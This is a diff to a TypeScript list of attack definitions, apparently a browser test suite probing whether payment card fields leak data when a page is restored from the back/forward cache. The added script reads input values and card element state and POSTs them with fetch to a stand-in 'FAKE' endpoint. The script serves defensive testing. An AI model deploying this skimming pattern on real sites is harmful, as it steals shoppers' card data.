@@ -63,7 +63,17 @@ export const ADDRESSES: readonly Attack[] = [
     flow: 'leave-and-return',
     engines: ['chromium', 'firefox'],
     why: 'WebKitGTK’s driver restores no page from its cache',
-    script: `listen(window, 'pageshow', (event) => { for (const input of document.querySelectorAll('input')) steal(input.value); });`,
+    script: `listen(window, 'pageshow', (event) => setTimeout(async () => {
+        if (performance.getEntriesByType('navigation')[0].type !== 'back_forward' && !event.persisted) return;
+        const card = document.getElementById('card');
+        for (const input of document.querySelectorAll('input')) steal(input.value);
+        crawl(card);
+        const { state, empty, complete } = card;
+        const code = await card.tokenize().then(() => 'a token', (error) => error.code);
+        const control = document.getElementById('control-number').value;
+        const body = JSON.stringify({ persisted: event.persisted, state, empty, complete, code, control, loot: window.__loot['bf-cache'] ?? '' });
+        void fetch(FAKE.replace('/fake/', '/own/') + '?window=returned', { method: 'POST', mode: 'no-cors', body });
+      }, 100));`,
   },
   {
     id: 'af-decoy',
